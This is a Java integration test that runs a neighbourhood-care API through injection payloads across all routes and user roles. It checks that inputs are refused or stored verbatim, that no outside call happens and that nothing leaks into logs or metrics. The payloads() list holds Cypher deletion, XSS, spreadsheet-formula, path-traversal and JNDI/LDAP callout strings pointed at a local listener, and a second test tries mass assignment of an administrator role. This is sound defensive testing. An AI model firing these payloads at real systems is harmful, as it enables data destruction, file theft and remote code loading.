package nl.wijkweb.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import nl.wijkweb.BesideOthers;
import nl.wijkweb.access.UserRole;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * What does not belong there, in every input of every operation, by who may call it: it is refused
 * or kept as the words that it is. Nothing else in the store changes, nobody outside is called, and
 * neither the log nor the figures of the machine repeat it. Nor do they tell a name.
 */
@BesideOthers
@Tag("every")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InjectionIT {
  /** Stands in each of them, so that they are found wherever they come out. */
  private static final String CANARY = "kanarie9f3";

  private static final List<UserRole> ROLES =
      List.of(
          UserRole.COORDINATOR,
          UserRole.WIJKTEAM,
          UserRole.TEAM_LEADER,
          UserRole.RESIDENT,
          UserRole.OPERATOR);

  private final AtomicInteger calledOut = new AtomicInteger();
  private ServerSocket outside;
  private Path log;
  private ServiceProcess service;
  private Contract contract;
  private String visit;

  @BeforeAll
  void start(@TempDir Path folder) throws IOException {
    outside = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    Thread ear = new Thread(this::listen, "outside");
    ear.setDaemon(true);
    ear.start();
    log = folder.resolve("log.txt");
    service = ServiceProcess.start(folder.resolve("data"), log, 0);
    try (var json = service.base().resolve("/v1/openapi.json").toURL().openStream()) {
      contract = new Contract(new String(json.readAllBytes(), StandardCharsets.UTF_8));
    }
    visit =
        client(UserRole.WIJKTEAM)
            .post(
                "/v1/visits",
                "{\"person\":\"%s\",\"purpose\":\"worry\"}".formatted(service.said(Village.JOOP)))
            .json()
            .path("token")
            .textValue();
  }

  @AfterAll
  void stop() throws Exception {
    service.close();
    outside.close();
  }

  private void listen() {
    try {
      while (true) {
        try (Socket caller = outside.accept()) {
          calledOut.incrementAndGet();
        }
      }
    } catch (IOException closed) {
      // The test is over.
    }
  }

  private List<String> payloads() {
    String out = "//127.0.0.1:" + outside.getLocalPort() + "/" + CANARY;
    return List.of(
        "'}) DETACH DELETE (n) //" + CANARY,
        "\\u0027 OR 1=1 } CALL db.labels() //" + CANARY,
        "<img src=http:" + out + " onerror=alert(1)>",
        "=HYPERLINK(\"http:" + out + "\";\"x\")",
        "../../../../etc/passwd%00" + CANARY,
        "${jndi:ldap:" + out + "}",
        "http:" + out);
  }

  @Test
  void shouldKeepWhatIsPutInAsTheWordsThatItIs() throws IOException {
    String before = folderOf("other");
    Set<String> there = addresses();
    ContractCalls calls = new ContractCalls(contract, this::candidates);
    Map<Integer, Integer> statuses = new HashMap<>();
    int sent = 0;
    int kept = 0;
    for (Contract.Route route : contract.routes()) {
      for (UserRole role : by(route)) {
        for (ContractCalls.Made call : calls.of(route, true)) {
          Reply reply = call.by(client(role));
          if (reply.status() == 202) {
            client(role).get(reply.header("Location") + "/events");
          }
          sent++;
          statuses.merge(reply.status(), 1, Integer::sum);
          assertThat(reply.status()).as("%s replied %s", call, reply).isLessThan(500);
          assertThat(reply.headers().map().toString()).as("%s", call).doesNotContain(CANARY);
          kept += checkKept(call, reply);
        }
      }
    }
    System.out.println(
        "Injection: %s calls %s, %s texts kept as they were".formatted(sent, statuses, kept));
    assertThat(kept).isGreaterThan(100);
    assertThat(there)
        .allSatisfy(
            address ->
                assertThat(client(UserRole.COORDINATOR).get(address).status())
                    .as(address)
                    .isEqualTo(200));
    assertThat(folderOf("other")).isEqualTo(before);
    assertThat(calledOut.get()).as("calls to the outside").isZero();
    assertNothingToldAboutIt();
  }

  @Test
  void shouldRefuseFieldsThatNobodyAskedFor() {
    int tried = 0;
    for (Contract.Route route : contract.routes()) {
      for (UserRole role : by(route)) {
        for (ContractCalls.Made call :
            new ContractCalls(contract, this::harmless).of(route, true)) {
          for (ObjectNode more : withMore(call)) {
            Reply reply =
                new ContractCalls.Made(
                        route, call.path(), call.headers(), call.type(), Json.write(more))
                    .by(client(role));
            assertThat(reply.status()).as("%s %s", call, more).isIn(400, 404, 409, 412);
            tried++;
          }
        }
      }
    }
    assertThat(tried).isGreaterThan(100);
  }

  /** Who tries it: everybody of them who may; what has to be computed, one, for it is the same. */
  private static List<UserRole> by(Contract.Route route) {
    if (route.operation().equals("signOut")) {
      return List.of();
    }
    return ROLES.stream()
        .filter(route.rule()::allows)
        .limit(route.operation().startsWith("start") ? 1 : ROLES.size())
        .toList();
  }

  /** The body with a field too many, at its top and in each object in it. */
  private static List<ObjectNode> withMore(ContractCalls.Made call) {
    List<ObjectNode> bodies = new ArrayList<>();
    if (!isJson(call)) {
      return bodies;
    }
    JsonNode body = Json.read(call.body());
    int objects = body.isObject() ? 1 + body.findParents("id").size() : 0;
    for (int i = 0; i < Math.min(objects, 3); i++) {
      ObjectNode copy = body.deepCopy();
      List<ObjectNode> all = new ArrayList<>(List.of(copy));
      collect(copy, all);
      if (i < all.size()) {
        all.get(i).put("role", "administrator").put("version", 1).put("sealed", false);
        bodies.add(copy);
      }
    }
    return bodies;
  }

  private static boolean isJson(ContractCalls.Made call) {
    return call.body() != null && String.valueOf(call.type()).contains("json");
  }

  private static void collect(JsonNode node, List<ObjectNode> objects) {
    for (JsonNode part : node) {
      if (part instanceof ObjectNode object) {
        objects.add(object);
      }
      collect(part, objects);
    }
  }

  /** How many texts of a body that was taken came back, each as it was sent. */
  private static int checkKept(ContractCalls.Made call, Reply reply) {
    boolean told = reply.status() < 300 && reply.body().length > 0;
    if (!told || !isJson(call)) {
      return 0;
    }
    int kept = 0;
    JsonNode sent = Json.read(call.body());
    JsonNode shown = reply.json();
    for (var field : sent.properties()) {
      if (field.getValue().isTextual()
          && field.getValue().textValue().contains(CANARY)
          && shown.has(field.getKey())) {
        assertThat(shown.get(field.getKey())).as("%s", call).isEqualTo(field.getValue());
        kept++;
      }
    }
    return kept;
  }

  private void assertNothingToldAboutIt() throws IOException {
    String told = Files.readString(log);
    String machine = client(UserRole.OPERATOR).get("/metrics").text();
    for (String secret : List.of(CANARY, "Joop", "Stil", "Ria van", "Truus", "0186-")) {
      assertThat(told).as("the log").doesNotContain(secret);
      assertThat(machine).as("/metrics").doesNotContain(secret);
    }
  }

  private List<String> candidates(Contract.Route route, String input, JsonNode schema) {
    List<String> all = new ArrayList<>(harmless(route, input, schema));
    if (all.isEmpty()) {
      all.add(usual(schema));
    }
    all.addAll(payloads());
    return all;
  }

  private static String usual(JsonNode schema) {
    if (schema.path("enum").path(0).isTextual()) {
      return schema.path("enum").path(0).textValue();
    }
    boolean day = schema.has("pattern") || schema.path("format").asText().equals("date");
    return day ? "2020-01-01" : "iets";
  }

  /** What is right; nothing that is there is removed. */
  private List<String> harmless(Contract.Route route, String input, JsonNode schema) {
    boolean removes = route.method().equals("DELETE") || route.operation().equals("handOverCase");
    return switch (input) {
      case "area", "homeArea" -> List.of(service.said("area"));
      case "actor", "person" -> List.of(removes ? FixedVillage.NOWHERE.value() : actor(route));
      case "from" -> List.of(person(route) ? joop() : service.said(Village.HALL));
      case "to" ->
          List.of(
              route.operation().equals("addContact")
                  ? ContractCalls.FRESH
                  : service.said(Village.CHOIR));
      case "via", "successor", "fallback", "arose", "atTable" ->
          List.of(service.said(Village.HALL));
      case "id", "conversation", "entry", "contact" -> List.of(ContractCalls.FRESH);
      case "activity" -> List.of(ContractCalls.FRESH);
      case "link" -> List.of(FixedVillage.NOWHERE.value());
      case "list" ->
          List.of(
              route.method().equals("PUT") ? ContractCalls.FRESH : FixedVillage.NOWHERE.value());
      case "confirm" -> List.of("nee");
      case "tie", "worry", "job", "table" -> List.of(FixedVillage.NOWHERE.value());
      case "asOf", "since" -> List.of("2024-01-01");
      case "domains" -> List.of("arts");
      case "subject" -> List.of("near");
      case "Wijkweb-Visit" -> List.of(person(route) ? visit : ContractCalls.NONE);
      case "If-Match" -> List.of("*");
      default -> List.of();
    };
  }

  private static boolean person(Contract.Route route) {
    return route.path().startsWith("/v1/people");
  }

  private String actor(Contract.Route route) {
    return person(route) || route.path().equals("/v1/visits") ? joop() : service.said(Village.HALL);
  }

  private String joop() {
    return service.said(Village.JOOP);
  }

  private Client client(UserRole role) {
    return service.client(contract, role.code());
  }

  /** The addresses of what the coordinator sees of the village that is written to. */
  private Set<String> addresses() {
    Set<String> addresses = new HashSet<>();
    JsonNode web =
        client(UserRole.COORDINATOR).get("/v1/areas/" + service.said("area") + "/web").json();
    web.path("actors").forEach(one -> addresses.add("/v1/actors/" + one.path("id").textValue()));
    web.path("ties").forEach(one -> addresses.add("/v1/ties/" + one.path("id").textValue()));
    assertThat(addresses).hasSizeGreaterThan(5);
    return addresses;
  }

  /** The canonical web of another village, as it is given out. */
  private String folderOf(String area) throws IOException {
    Reply folder =
        service
            .client(contract, ServiceProcess.OPERATOR_OF_ALL)
            .get("/v1/areas/" + service.said(area) + "/folder");
    assertThat(folder.status()).isEqualTo(200);
    StringBuilder files = new StringBuilder();
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(folder.body()))) {
      for (ZipEntry file = zip.getNextEntry(); file != null; file = zip.getNextEntry()) {
        files.append(file.getName()).append('\n');
        files.append(new String(zip.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return files.toString();
  }
}
